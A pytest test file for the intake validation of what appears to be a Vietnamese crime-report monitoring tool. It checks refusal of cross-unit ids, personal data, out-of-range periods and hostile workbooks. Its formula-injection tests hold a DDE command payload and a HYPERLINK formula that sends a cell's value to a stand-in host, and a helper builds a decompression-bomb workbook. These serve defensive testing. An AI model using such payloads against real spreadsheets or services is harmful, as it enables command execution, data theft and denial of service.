"""Issue #16, intake items: what a hostile or a clumsy user sent, and what now happens to it.

Stale workbook dimensions (5), another unit's record ids (6), formula-like text (7), personal
data past the guard (8), aggregates for periods outside the allowed range (9), workbooks that
inflate when unzipped (16).
"""

import csv as csv_module
import io
import re
import time
import tracemalloc
import zipfile
from datetime import date

import duckdb
import openpyxl
import pytest

from tipmonitor.core.problems import InputError
from tipmonitor.intake.loading import load_file
from tipmonitor.store.database import Store

from test_store import csv, snapshot

TODAY = date(2026, 11, 28)


def refusal(path, lang="en", **kwargs):
    """The rendered problems of a load that must fail."""
    with pytest.raises(InputError) as error:
        load_file(path, today=kwargs.pop("today", TODAY), **kwargs)
    return [p.render(lang) for p in error.value.problems]


# --- 5: a workbook whose <dimension> says fewer rows than it has ---------------------------

def stale_dimension_workbook(path, rows: int = 50, ref: str = "A1:J3"):
    """A workbook of a header and `rows` - 1 report rows whose sheet says it spans `ref`, as some tools save it."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Tin báo"
    sheet.append(["Mã tin báo", "Đơn vị", "Loại", "Ngày tiếp nhận"])
    for i in range(1, rows):
        sheet.append([f"TB{i}", "002", "tin báo", "01/04/2023"])
    buffer = io.BytesIO()
    book.save(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data, count = re.subn(rb'<dimension ref="[^"]*"', b'<dimension ref="%s"' % ref.encode(), data)
                assert count == 1
            target.writestr(item, data)
    path.write_bytes(out.getvalue())
    return path


def test_a_workbook_with_a_stale_dimension_is_read_whole(tmp_path):
    # 1 header row + 49 records; the sheet's <dimension> claims A1:J3 (2 records).
    path = stale_dimension_workbook(tmp_path / "002_2023-Q2.xlsx")
    table = load_file(path, today=TODAY)["crime_reports"]
    assert len(table) == 49
    assert list(table["report_id"][:2]) == ["TB1", "TB2"] and table["report_id"].iloc[-1] == "TB49"
    assert table["_row"].iloc[-1] == 50


# --- 6: one unit sending an id that belongs to another ------------------------------------

@pytest.mark.slow  # about a second of CPU: make test runs it, make check leaves it out
def test_an_id_owned_by_another_unit_is_refused_and_the_store_is_unchanged(tmp_path):
    store = Store(tmp_path / "store.duckdb")
    store.ingest(csv(tmp_path, "002_2023-Q2.csv", ["TB1,002,report,2023-04-01,2023-04-01,,"]), today=TODAY)
    before = snapshot(store)
    (tmp_path / "other").mkdir()
    theirs = csv(tmp_path / "other", "006_2023-Q3.csv",
                 ["TB7,006,report,2023-07-01,,,", "TB1,006,report,2023-07-02,2023-07-02,,"])
    with pytest.raises(InputError) as error:
        store.ingest(theirs, today=TODAY)
    assert [p.render("en") for p in error.value.problems] == [
        "006_2023-Q3.csv:3:report_id: the id «TB1» belongs to unit 002 (submission 1); a unit may only send its own "
        "records: give this record a new id, or ask unit 002 to correct its submission"]
    assert snapshot(store) == before
    assert list(store.current().crime_reports["unit"]) == ["002"]


def test_the_same_unit_may_update_its_own_record_in_a_later_period(tmp_path):
    store = Store(tmp_path / "store.duckdb")
    store.ingest(csv(tmp_path, "002_2023-Q2.csv", ["TB1,002,report,2023-04-01,2023-04-01,,"]), today=TODAY)
    result = store.ingest(csv(tmp_path, "002_2023-Q3.csv", ["TB1,002,report,2023-04-01,2023-04-01,2023-07-01,administrative"]),
                          today=TODAY)
    assert result.status == "ingested"


# --- 7: formula-like text -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1;"bấm")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_like_text_in_an_id_or_a_notes_cell_is_refused_without_repeating_it(tmp_path, value):
    quoted = '"' + value.replace('"', '""') + '"'
    path = tmp_path / "tb.csv"
    path.write_text("report_id,unit,kind,received_date,Ghi chú\n"
                    f"{quoted},002,report,2023-04-01,\n"
                    f"TB2,002,report,2023-04-02,{quoted}\n", encoding="utf-8")
    found = refusal(path)
    assert [m.split(": ", 1)[0] for m in found] == ["tb.csv:2:report_id", "tb.csv:3:Ghi chú"]
    assert all(f"starts with «{value[0]}», so a spreadsheet would run it as a formula" in m for m in found)
    assert not any(value in m for m in found)


def test_a_negative_count_is_still_the_negative_count_problem_not_a_formula(tmp_path):
    path = tmp_path / "agg.csv"
    path.write_text("unit,period,measure,value\n002,2023-Q2,reports.intake,-3\n", encoding="utf-8")
    assert refusal(path) == ["agg.csv:2:value: a count cannot be negative (-3)"]


def _store_with_formula_ids(tmp_path):
    """A store in which formula-like ids got in by a way other than intake (written directly)."""
    store = Store(tmp_path / "store.duckdb")
    store.ingest(csv(tmp_path, "002_2023-Q2.csv", ["TB1,002,report,2023-04-01,2023-04-01,,", "TB2,002,report,2023-04-02,,,",
                                                  "TB3,002,report,2023-04-03,,,", "TB4,002,report,2023-04-04,,,"]),
                 today=TODAY)
    con = duckdb.connect(str(store.path))
    for old, new in (("TB1", "=cmd|' /C calc'!A0"), ("TB2", "@SUM(1+1)"), ("TB3", "\tTAB"), ("TB4", "-1+1")):
        con.execute("UPDATE crime_reports SET report_id = ? WHERE report_id = ?", [new, old])
    con.close()
    return store


def test_export_as_csv_neutralises_formula_like_text(tmp_path):
    store = _store_with_formula_ids(tmp_path)
    written = store.export(tmp_path / "out", "csv")
    path = next(p for p in written if p.name == "crime_reports.csv")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv_module.DictReader(handle))
    assert sorted(r["report_id"] for r in rows) == sorted(["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'\tTAB", "'-1+1"])
    assert {r["unit"] for r in rows} == {"002"} and {r["received_date"][:7] for r in rows} == {"2023-04"}


@pytest.mark.slow  # more than a second of CPU: make test runs it, make check leaves it out
def test_the_report_workbook_and_csv_neutralise_formula_like_text(tmp_path, monkeypatch):
    from fixtures import REPORTS
    from conftest import make_dataset
    from tipmonitor.present import views
    from tipmonitor.present.report import PeriodReport
    from tipmonitor.present.workbook import write_csv, write_workbook

    real = views.unit_names
    monkeypatch.setattr(views, "unit_names", lambda evaluation, lang: {**real(evaluation, lang), "002": "=1+1"})
    report = PeriodReport(make_dataset(reports=REPORTS), "2023-Q2", lang="en")
    book = openpyxl.load_workbook(write_workbook(report.evaluation, tmp_path / "kpis.xlsx", "en"))
    names = {row[0] for row in book["Units"].iter_rows(min_row=2, values_only=True)}  # the unit's name comes first
    assert "'=1+1" in names and "=1+1" not in names
    [_, units] = write_csv(report.evaluation, tmp_path / "csv", "en")
    with open(units, encoding="utf-8-sig", newline="") as handle:
        shown = {row["Unit"] for row in csv_module.DictReader(handle)}
    assert "'=1+1" in shown and "=1+1" not in shown


# --- 8: personal data past the guard -----------------------------------------------------

@pytest.mark.parametrize("value", ["001-203-004-567", "001.203.004.567", "0012 0300 4567", "090-123-4567"])
def test_identity_and_phone_numbers_with_separators_are_refused(tmp_path, value):
    path = tmp_path / "nn.csv"
    path.write_text(f"report_id,unit,kind,received_date\n{value},002,report,2023-04-01\n", encoding="utf-8")
    [message] = refusal(path)
    assert message.startswith("nn.csv:2:report_id: this cell looks like ")
    assert value not in message


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "tran thi b", "Lê  Minh"])
def test_a_persons_name_in_an_id_column_is_refused(tmp_path, value):
    path = tmp_path / "nn.csv"
    path.write_text(f"report_id,unit,kind,received_date,case_id\nTB1,002,report,2023-04-01,{value}\n", encoding="utf-8")
    assert refusal(path) == ["nn.csv:2:case_id: this cell looks like a person's name; an id is a code (letters, digits "
                             "and - _ / . without spaces); remove personal data from the file (use pseudonymous codes "
                             "only) and send it again — the file was not taken in"]


def test_an_id_with_other_characters_is_refused_as_not_a_code(tmp_path):
    path = tmp_path / "tb.csv"
    path.write_text("report_id,unit,kind,received_date\nTB#1,002,report,2023-04-01\n", encoding="utf-8")
    assert refusal(path) == ["tb.csv:2:report_id: an id is a code of letters, digits and - _ / . only (no spaces "
                             "or other signs); correct it"]


def test_codes_that_look_like_numbers_but_are_not_personal_data_still_load(tmp_path):
    path = tmp_path / "tb.csv"
    path.write_text("report_id,unit,kind,received_date,case_id\n"
                    "TB-002-123456,002,report,2023-04-01,VA/2023.1_b\n", encoding="utf-8")
    assert list(load_file(path, today=TODAY)["crime_reports"]["case_id"]) == ["VA/2023.1_b"]


def test_cells_over_the_length_limits_are_refused_without_repeating_them(tmp_path):
    # an id of 65 characters (limit 64), a notes cell of 1,001 (limit 1,000), a 5 MB cell
    long_id, long_note, huge = "A" * 65, "x" * 1001, "y" * 5_000_000
    path = tmp_path / "tb.csv"
    path.write_text("report_id,unit,kind,received_date,Ghi chú\n"
                    f"{long_id},002,report,2023-04-01,\nTB2,002,report,2023-04-02,{long_note}\n"
                    f"TB3,002,report,{huge},\nTB4,002,report,2023-04-02,{'z' * 1000}\n", encoding="utf-8")
    found = refusal(path)
    assert found == [
        "tb.csv:2:report_id: this cell holds 65 characters; an id may have at most 64",
        "tb.csv:3:Ghi chú: this cell holds 1,001 characters; a cell may have at most 1,000",
        "tb.csv:4:received_date: this cell holds 5,000,000 characters; a cell may have at most 1,000"]


# --- 9 (first half): aggregates for periods that have not started or lie far away ---------

def unit_in(period: str) -> str:
    """A unit that existed at the period's end: Hoàn Kiếm district up to 2025-06-30, Ba Đình ward after."""
    return "002" if period < "2025" else "00004"


@pytest.mark.parametrize("period", ["1900-Q1", "2150-Q1", "2027-Q1", "2016-Q4"])
def test_aggregates_for_a_period_outside_the_allowed_range_are_refused(tmp_path, period):
    # allowed: from 2017 (baseline year 2022 minus 5) to the period running on 28/11/2026 (2026-Q4)
    path = tmp_path / "agg.csv"
    path.write_text(f"unit,period,measure,value\n{unit_in(period)},{period},reports.intake,3\n", encoding="utf-8")
    [message] = refusal(path)
    assert message.startswith(f"agg.csv:2:period: the period {period} is outside the periods data are taken for "
                              "(2017-Q1 to 2026-Q4, the period under way on 28/11/2026)")
    assert "--allow-period-outside" in message
    assert len(load_file(path, today=TODAY, allow_period_outside=True)["aggregates"]) == 1


@pytest.mark.parametrize("period", ["2017-Q1", "2026-Q4", "2026", "2026-11"])
def test_aggregates_for_the_edges_of_the_allowed_range_load(tmp_path, period):
    path = tmp_path / "agg.csv"
    path.write_text(f"unit,period,measure,value\n{unit_in(period)},{period},reports.intake,3\n", encoding="utf-8")
    assert list(load_file(path, today=TODAY)["aggregates"]["period"]) == [period]


def test_the_command_line_refuses_a_future_period_unless_the_flag_allows_it(tmp_path, capsys):
    from tipmonitor.cli import main

    path = tmp_path / "00004_2027-Q1.csv"
    path.write_text("unit,period,measure,value\n00004,2027-Q1,reports.intake,3\n", encoding="utf-8")
    target = str(tmp_path / "store.duckdb")
    assert main(["ingest", str(path), "--store", target, "--today", "2026-11-28", "--lang", "en"]) == 1
    assert "2027-Q1 is outside the periods" in capsys.readouterr().err
    assert main(["ingest", str(path), "--store", target, "--today", "2026-11-28", "--allow-period-outside"]) == 0
    assert list(Store(target).current().aggregates["period"]) == ["2027-Q1"]


# --- 16: workbooks that inflate when unzipped -----------------------------------------------

def inflating_workbook(path, size: int):
    """A valid workbook whose one report id is a shared string of `size` bytes (about 1 KB zipped per MB)."""
    book = openpyxl.Workbook()
    book.active.append(["Mã tin báo", "Đơn vị", "Loại", "Ngày tiếp nhận"])
    book.active.append(["PLACEHOLDER", "002", "tin báo", "01/04/2023"])
    buffer = io.BytesIO()
    book.save(buffer)
    shared = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b'<c r="A2" t="inlineStr"><is><t>PLACEHOLDER</t></is></c>', b'<c r="A2" t="s"><v>0</v></c>')
            elif item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument'
                                    b'/2006/relationships/sharedStrings" Target="sharedStrings.xml" Id="rId9" /></Relationships>')
            elif item.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{shared}"/></Types>'.encode())
            target.writestr(item, data)
        with target.open("xl/sharedStrings.xml", "w", force_zip64=True) as handle:
            handle.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>')
            chunk = b"A" * (1 << 20)
            for start in range(0, size, len(chunk)):
                handle.write(chunk[:size - start])
            handle.write(b"</t></si></sst>")
    return path


@pytest.mark.slow  # about a second of CPU: make test runs it, make check leaves it out
def test_a_workbook_that_inflates_past_the_limits_is_refused_fast_and_small(tmp_path):
    path = inflating_workbook(tmp_path / "bom.xlsx", 300 << 20)  # 300 MB of text in a file of about 300 KB
    assert path.stat().st_size < 2_000_000
    tracemalloc.start()
    started = time.monotonic()
    try:
        found = refusal(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 5
    assert peak < 50_000_000
    assert len(found) == 1 and found[0].startswith("bom.xlsx:-:-: the workbook's part "
                                                   "xl/sharedStrings.xml unpacks to 314,57")
    assert "docs/security.md" in found[0]


def test_a_small_workbook_compressed_far_beyond_normal_is_refused(tmp_path):
    # 8 MB of one letter packs to about 8 KB: a ratio near 1000, where real workbooks stay far below 200
    found = refusal(inflating_workbook(tmp_path / "nho.xlsx", 8 << 20))
    assert len(found) == 1 and "times its packed size" in found[0]


def test_a_rebuild_takes_again_what_was_accepted_with_the_flag(tmp_path):
    from tipmonitor.store.recovery import rebuild

    store = Store(tmp_path / "store.duckdb")
    path = tmp_path / "00004_2027-Q1.csv"
    path.write_text("unit,period,measure,value\n00004,2027-Q1,reports.intake,3\n", encoding="utf-8")
    store.ingest(path, today=TODAY, allow_period_outside=True)
    store.path.unlink()
    rebuild(store)
    assert list(store.current().aggregates["period"]) == ["2027-Q1"]


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_sheet_with_data_is_a_problem_not_dropped_in_silence(tmp_path, state):
    import openpyxl

    from tipmonitor.intake.loading import load_file

    book = openpyxl.Workbook()
    book.active.title = "Tin báo"
    book.active.append(["report_id", "unit", "kind", "received_date"])
    book.active.append(["TB1", "002", "report", "2023-04-01"])
    hidden = book.create_sheet("Tin báo (2)")
    hidden.append(["report_id", "unit", "kind", "received_date"])
    hidden.append(["TB2", "002", "report", "2023-04-02"])
    hidden.sheet_state = state
    empty = book.create_sheet("Trống")
    empty.sheet_state = "hidden"  # a hidden sheet with nothing in it is no loss
    path = tmp_path / "002_2023-Q2.xlsx"
    book.save(path)
    with pytest.raises(InputError) as error:
        load_file(path, today=date(2024, 1, 1))
    assert [(p.key, p.sheet) for p in error.value.problems] == [("sheet_hidden", "Tin báo (2)")]
